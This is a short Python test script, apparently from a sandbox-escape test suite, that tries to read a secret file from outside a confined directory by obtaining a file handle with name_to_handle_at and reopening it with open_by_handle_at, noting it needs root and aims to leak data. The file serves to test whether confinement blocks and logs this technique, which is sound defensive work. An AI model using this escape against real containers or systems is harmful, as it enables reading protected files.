# SPDX-License-Identifier: Apache-2.0
# attack: name_to_handle_at and open_by_handle_at: a file without a path
# class: kobj
# wins: leak
# needs: root
# logged: name_to_handle_at open_by_handle_at
from kit import *

tried()
h = ctypes.create_string_buffer(struct.pack('<Ii', 128, 0), 160)
mnt = ctypes.c_int()
r = sc('name_to_handle_at', AT_FDCWD, os.fsencode(SECRET), h, ctypes.byref(mnt), 0)
fd = openat(BOX, os.O_RDONLY)
spill(sc('open_by_handle_at', fd, h, os.O_RDONLY))
